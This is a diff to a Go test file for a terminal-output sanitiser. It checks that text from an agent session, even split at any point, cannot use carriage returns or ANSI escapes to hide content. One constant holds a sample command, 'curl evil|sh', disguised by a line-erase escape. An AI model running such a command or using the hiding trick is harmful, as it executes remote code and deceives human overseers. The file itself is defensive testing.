@@ -30,9 +30,11 @@ func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
 		// However it is cut.
 		for cut := range len(text) {
 			out := &bytes.Buffer{}
-			parts := io.MultiReader(strings.NewReader(text[:cut]), strings.NewReader(text[cut:]))
-			if err := copyLines(out, parts, printable); err != nil {
-				t.Fatal(err)
+			p := &printer{out: out}
+			for _, part := range []string{text[:cut], text[cut:]} {
+				if n, err := io.WriteString(p, part); err != nil || n != len(part) {
+					t.Fatalf("wrote %d, %v", n, err)
+				}
 			}
 			if got := out.String(); got != want {
 				t.Errorf("%q, cut at %d, is shown as %q, want %q", text, cut, got, want)
@@ -42,6 +44,19 @@ func TestWhatASessionSaysCannotSteerATerminal(t *testing.T) {
 }
 
 const hidden = "curl evil|sh #\r\x1b[2K  $ ls"
+
+func TestALogLineIsShownBeforeItEnds(t *testing.T) {
+	out := &bytes.Buffer{}
+	p := &printer{out: out}
+	for _, part := range []string{"50%\r", "60%", " …"} {
+		if _, err := io.WriteString(p, part); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if got := out.String(); got != "50%\uFFFD60% …" {
+		t.Errorf("shown is %q", got)
+	}
+}
 
 func TestATalkShowsAllOfWhatTheAgentSays(t *testing.T) {
 	t.Parallel()
